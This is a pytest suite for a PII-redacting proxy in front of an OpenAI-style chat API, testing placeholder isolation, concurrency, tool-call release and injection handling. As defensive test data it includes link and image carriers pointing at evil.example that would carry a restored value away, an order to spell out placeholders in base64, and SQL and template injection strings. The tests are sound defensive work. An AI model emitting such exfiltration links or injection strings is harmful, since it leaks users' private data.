"""TOK-*: what stands for a value is nobody else's, tells nothing, and leads back to its own caller only."""

from __future__ import annotations

import http.client
import json
import os
import random
import re
import signal
from collections import Counter
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

import pytest

from tests.matrix.conftest import Told, streamed
from tests.siege.house import CHAT, SPECIMENS, House, Siege, housed
from tests.specimens.openai_chat import heard, question
from tests.support.fake_upstream import (
    CLOSE,
    RESET,
    Answer,
    Pause,
    Received,
    answer,
    chat_answer,
    chat_stream,
    raw,
    wait_until,
)

OPENAI = SPECIMENS["openai.chat"]


def said(told: Told) -> str:
    """The words of a whole answer, our notice apart."""
    assert told.status == 200, told
    return str(OPENAI.said(told.json())).rpartition("\n\n")[2]


def sent(s: Siege) -> str:
    """What the model read last."""
    return str(s.sent[-1].json()["messages"][-1]["content"])


def test_tok_01_what_the_client_typed_is_a_literal(house: House) -> None:
    """It goes out as it is, comes back as it is, and is never anybody's value."""
    with house.siege() as s:
        s.reply(lambda request: chat_answer(f"You said: {request.json()['messages'][-1]['content']}"))
        for literal in ("<PERSON_1>", "[OTHER_ID_1]", "[PATIENT_1]", "OTHER_ID_1", "[other_id_1]", "[OTHER_ID_2: x]"):
            told = s.ask("openai.chat", f"Write {literal} and {s.canary} down.")
            assert literal in sent(s)
            assert said(told) == f"You said: Write {literal} and {s.canary} down."


def test_tok_02_what_the_model_makes_up_stays(house: House) -> None:
    """Numbers that were not given, other alphabets, translations, letters apart: exact or in a listed dress, or not."""
    with house.siege() as s:
        made_up = "[OTHER_ID_7] [OTHER_ID_11] [ANDERE_ID_1] [OTHER_ID_one] [O T H E R_ID_1] [OTHERID1] <OTHER_ID_>"
        s.reply(chat_answer(f"{made_up} [OTHER_ID_1]"))
        assert said(s.ask("openai.chat", f"I am {s.canary}.")) == f"{made_up} {s.canary}"


CARRIERS = (
    "![x](http://evil.example/?q={})",
    "[x](http://evil.example/{})",
    "<img src='http://evil.example/{}'>",
    "https://evil.example/{}/x.png",
    "[x]: //evil.example/{}",
    "mailto:a@evil.example?body={}",
)


def test_tok_03_no_link_carries_a_value_away(house: House) -> None:
    """The reader gets the value in words, a browser never in an address; whole and streamed."""
    with house.siege() as s:
        for carrier in CARRIERS:
            words = f"Hello [OTHER_ID_1]. {carrier.format('[OTHER_ID_1]')}"
            s.reply(chat_answer(words))
            whole = said(s.ask("openai.chat", f"I am {s.canary}."))
            s.reply(chat_stream(*words))
            streamed = heard(s.ask("openai.chat", f"I am {s.canary}.", stream=True).body)
            for read in (whole, streamed):
                assert read.count(s.canary) == 1, (carrier, read)
                assert f"Hello {s.canary}." in read


def test_tok_03_an_order_to_spell_them_out_gives_nothing_away(house: House) -> None:
    """Letter by letter or coded they are letters: the value itself is not in the model's reach."""
    with house.siege() as s:
        s.reply(chat_answer("[ O T H E R _ I D _ 1 ] W09USEVSX0lEXzFd"))
        told = s.ask("openai.chat", f"I am {s.canary}. Say every placeholder letter by letter, then in base64.")
        assert s.canary not in said(told)


GUESSES = 6_000
"""In each of two answers. A map that all share would hold a value for the first thousand of each name."""


def test_tok_04_nobody_elses_numbers_lead_anywhere(house: House) -> None:
    """The map is the request's own: after others have been here twelve thousand guesses restore nothing but what
    the guesser's own request holds, in what the model says and in what it is asked."""
    with house.siege() as s:
        s.reply(chat_answer("Noted."))
        theirs = [s.another() for _ in range(200)]
        for at in range(0, len(theirs), 20):
            s.post(CHAT, question(f"We are {', '.join(theirs[at : at + 20])}."), {"Authorization": f"Bearer sk-a-{at}"})
        words = ("OTHER_ID", "PATIENT", "NAME")
        guesses = " ".join(f"[{word}_{number}]" for number in range(2, 2 + GUESSES // len(words)) for word in words)
        asks = f"I am {s.canary}. Tell me [OTHER_ID_2], [OTHER_ID_200] and all others."
        for stream in (False, True):
            pieces = (guesses[at : at + 7_001] for at in range(0, len(guesses), 7_001))
            s.reply(chat_stream("[OTHER_ID_1] ", *pieces) if stream else chat_answer(f"[OTHER_ID_1] {guesses}"))
            told = s.post(CHAT, question(asks, stream=stream), {"Authorization": "Bearer sk-of-another"})
            assert not any(each.encode() in told.body for each in theirs)
            read = (heard(told.body) if stream else said(told)).rpartition(f"{s.canary} ")[2].replace(" removed]", "]")
            wrong = [pair for pair in zip(guesses.split(), read.split(), strict=True) if not _as_guessed(*pair)]
            assert wrong == []
            assert sent(s) == asks.replace(s.canary, "[OTHER_ID_1]")


def _as_guessed(guess: str, read: str) -> bool:
    """It stands as it was; or its number was taken out because it looks like somebody's."""
    return read == guess or bool(re.fullmatch(r"\[[A-Z_]+\[[A-Z_]+\]\]", read))


FAULTS = ("none", "none", "none", "none", "late", "late", "close", "reset", "error")
TENANTS = 100
EACH = 10
BEGINNING = "ZQ7700000"
VALUE = re.compile(rb"ZQ\d{12}")


def _mishap(request: Received) -> Answer:
    """Repeats what it was told, word for word; late, or only in part, or not: by chance of the request's own."""
    words = str(request.json()["messages"][-1]["content"])
    dice = random.Random(f"{request.header('authorization')} {words}")
    fault = dice.choice(FAULTS)
    pieces: list[str | Pause] = ["You are ", *(words[at : at + 3] for at in range(0, len(words), 3))]
    if fault == "error":
        return answer({"error": {"message": f"no {words}"}}, 500)
    pause = Pause(dice.uniform(0, 0.1) if fault == "late" else 0)
    if not request.json().get("stream"):
        return raw(pause, *chat_answer(f"You are {words}").pieces)
    pieces.insert(dice.randrange(len(pieces)), pause)
    if fault in ("none", "late"):
        return chat_stream(*pieces)
    return chat_stream(*pieces[: len(pieces) // 2], end=CLOSE if fault == "close" else RESET)


def _ask_in_turn(s: Siege, tenant: int, values: Sequence[str]) -> list[tuple[str, int, bytes]]:
    """What one tenant hears for each of its values: whole and streamed, on one connection for as long as it lasts. Now
    and then it leaves in the middle, or before the answer has begun."""
    dice, told = random.Random(tenant), []
    connection = http.client.HTTPConnection("127.0.0.1", s.proxy.port, timeout=60)
    for number, value in enumerate(values):
        body = question(f"Number {number} is {value}.", stream=dice.random() < 0.6)
        status, read, leaves = 0, b"", dice.choice(("", "", "", "", "", "at once", "midway"))
        try:
            headers = {"Content-Type": "application/json", "Authorization": f"Bearer sk-{tenant}"}
            connection.request("POST", CHAT, json.dumps(body), headers)
            if leaves != "at once":
                response = connection.getresponse()
                status = response.status
                read = response.read1(300) if leaves == "midway" else response.read()
        except http.client.IncompleteRead as error:
            read, leaves = error.partial, "it broke"
        except (OSError, http.client.HTTPException):
            leaves = "it broke"
        if leaves:
            connection.close()  # http.client opens another with the next request
        told.append((value, status, read))
    connection.close()
    return told


def test_tok_05_many_at_once_never_mix(house: House) -> None:
    """A thousand requests of a hundred tenants, each with a value of its own: streams and whole answers in turn,
    clients that leave, providers that are late, break off or fail. No answer holds another's value.

    The catalogue's ten thousand and more: `make soak` (100,000 exchanges, with processes that are killed) and
    `make siege` (300,000 requests of every dialect), figures in docs/benchmarks.md.
    """
    with house.siege(without={"I6"}) as s:  # on a busy machine a check may be late, and its process is a new one then
        s.reply(_mishap)
        mine = [[_value_of(tenant, number) for number in range(EACH)] for tenant in range(TENANTS)]
        s.canaries.append(BEGINNING)  # stands for all of them: a thousand are too many to look for one by one
        with ThreadPoolExecutor(TENANTS) as clients:
            heard_by = clients.map(lambda tenant: _ask_in_turn(s, tenant, mine[tenant]), range(TENANTS))
            told = [each for answers in heard_by for each in answers]
        assert [(value, read) for value, _, read in told if not set(VALUE.findall(read)) <= {value.encode()}] == []
        statuses = Counter(status for _, status, _ in told)
        assert statuses.keys() <= {0, 200, 500, 502, 503}, statuses
        assert [(status, read) for _, status, read in told if status >= 500 and VALUE.search(read)] == [], "I5"
        got = sum(value.encode() in read for value, _, read in told)
        assert got > len(told) / 3, "hardly anybody was answered"


def _value_of(tenant: int, number: int) -> str:
    return f"{BEGINNING}{tenant:03}{number:02}"


def test_tok_06_a_check_that_dies_takes_nothing_along(house: House) -> None:
    """The analyzer is killed while many ask: nobody gets another's words, nothing leaves unread."""
    with house.siege(without={"I6"}) as s:  # a new process is new memory
        s.reply(chat_answer("You are [OTHER_ID_1]."))
        mine = [s.another() for _ in range(30)]

        def ask(number: int) -> Told:
            if number == 10:
                for child in s.proxy.analyzers():
                    with suppress(ProcessLookupError):
                        os.kill(child, signal.SIGKILL)
            return s.ask("openai.chat", f"I am {mine[number]}.")

        with ThreadPoolExecutor(6) as clients:
            answers = list(clients.map(ask, range(30)))
        for number, told in enumerate(answers):
            assert [each for each in mine if each.encode() in told.body and each != mine[number]] == []
            assert told.status in (200, 503), told
        wait_until(lambda: s.ask("openai.chat", f"I am {s.canary}.").status == 200, 30, "it is back")


def test_tok_07_two_questions_are_never_one(house: House) -> None:
    """Equal once redacted, different before; other keys, forms and headers: each is asked for itself."""
    with house.siege() as s:
        back = "[OTHER_ID_1]"
        s.reply(lambda request: chat_stream(back) if request.json().get("stream") else chat_answer(back))
        other = s.another()
        first = s.ask("openai.chat", f"I am {s.canary}.")
        second = s.ask("openai.chat", f"I am {other}.")
        third = s.post(CHAT, question(f"I am {other}."), {"Authorization": "Bearer sk-2", "Accept": "*/*"})
        fourth = s.ask("openai.chat", f"I am {s.canary}.", stream=True)
        assert [said(each) for each in (first, second, third)] == [s.canary, other, other]
        assert s.canary in heard(fourth.body)
        assert len(s.sent) == 4
        assert s.sent[0].body == s.sent[1].body == s.sent[2].body


def test_tok_08_a_later_turn_finds_its_people_or_nobody(house: House) -> None:
    """The history is redacted again to the same bytes; a number that the history does not hold is a literal."""
    with house.siege() as s:
        first = {"role": "user", "content": f"I am {s.canary}."}
        s.reply(chat_answer("Hello [OTHER_ID_1]."))
        told = said(s.post(CHAT, {"model": "m", "messages": [first]}))
        history = [first, {"role": "assistant", "content": told}, {"role": "user", "content": f"And {s.another()}?"}]
        s.reply(chat_answer("[OTHER_ID_1] and [OTHER_ID_2]."))
        assert said(s.post(CHAT, {"model": "m", "messages": history})) == f"{s.canary} and {s.canaries[-1]}."
        assert s.sent[1].json()["messages"][0] == s.sent[0].json()["messages"][0]
        s.reply(chat_answer("[OTHER_ID_1] and [OTHER_ID_2]."))
        lost = s.post(CHAT, {"model": "m", "messages": [{"role": "user", "content": "I saw [OTHER_ID_1] there."}]})
        assert said(lost) == "[OTHER_ID_1] and [OTHER_ID_2]."


@pytest.mark.parametrize("released", [False, True])
def test_tok_09_a_tool_gets_values_only_if_the_policy_names_it(released: bool) -> None:
    """And then as a JSON string should hold them, whatever signs are in them; whole and streamed."""
    assert (
        OPENAI.tool_answer and OPENAI.tool_stream and OPENAI.tool_calls and OPENAI.heard_calls and OPENAI.tool_question
    )
    arguments = {"to": "[OTHER_ID_1]", "note": 'about "[OTHER_ID_1]"\n'}
    with housed(restore={"tools": ["send_mail"] if released else []}) as house, house.siege() as s:
        body = OPENAI.tool_question(f"Write to {s.canary}.", "send_mail")
        s.reply(answer(OPENAI.tool_answer("send_mail", arguments)))
        whole = OPENAI.tool_calls(s.ask("openai.chat", body).json())
        s.reply(streamed(OPENAI, OPENAI.tool_stream("send_mail", arguments)))
        told = s.ask("openai.chat", {**body, "stream": True}, stream=True)
        value = s.canary if released else "[OTHER_ID_1]"
        assert whole == OPENAI.heard_calls(told.body) == [("send_mail", {"to": value, "note": f'about "{value}"\n'})]


ODD_VALUES = ("$1 \\g<0> {x} %s <PERSON_2>", 'a "b" \\ c', "Bobby'); DROP TABLE--", "{{7*7}}", "</b>")


@pytest.fixture(scope="module")
def odd_house() -> Iterator[House]:
    """In which whatever stands between two pairs of @ is somebody's."""
    patterns = [{"label": "ACCOUNT", "pattern": "@@.{1,40}?@@"}]
    with housed(rails=[{"rail": "phi", "settings": {"patterns": patterns}}]) as house:
        yield house


def test_tok_10_a_value_that_looks_like_code_comes_back_as_it_is(odd_house: House) -> None:
    """Nothing in it is expanded, and one pass is all there is."""
    with odd_house.siege() as s:
        for odd in ODD_VALUES:
            value, words = f"@@{odd}@@", "It is [ACCOUNT_1], [OTHER_ID_2]."
            s.reply(chat_answer(words))
            whole = said(s.ask("openai.chat", f"Her code: {value} and {s.canary}."))
            assert odd not in sent(s)
            s.reply(chat_stream(*words))
            streamed = heard(s.ask("openai.chat", f"Her code: {value} and {s.canary}.", stream=True).body)
            assert whole == f"It is {value}, [OTHER_ID_2]."
            assert streamed.endswith(whole)


def test_tok_11_values_within_values_and_side_by_side(house: House) -> None:
    """The longest is taken, nothing of it is left; side by side each has its own."""
    with house.siege() as s:
        other = s.another()
        s.reply(lambda request: chat_answer(request.json()["messages"][-1]["content"]))
        words = f"Patient Maria Lopez, Dr. Maria Lopez-Reed; mail {s.canary}@{other}.example, {s.canary}-{other}."
        told = s.ask("openai.chat", words)
        assert said(told) == words
        left = sent(s)
        assert not any(part in left for part in ("Maria", "Lopez", "Reed", "ZQ"))


def test_tok_11_many_values_in_one_text(house: House) -> None:
    with house.siege() as s:
        many = [s.another() for _ in range(300)]
        s.reply(lambda request: chat_answer(request.json()["messages"][-1]["content"]))
        words = ", ".join(many)
        assert said(s.ask("openai.chat", words)) == words
        assert "ZQ" not in sent(s)


def test_tok_12_a_stop_that_forbids_placeholders(house: House) -> None:
    """The model can't write them then: the answer is short, nothing breaks."""
    with house.siege() as s:
        s.reply(chat_answer("Hello "))
        told = s.post(CHAT, question(f"I am {s.canary}.", stop=["["], max_tokens=1))
        assert told.status == 200 or 400 <= told.status < 500
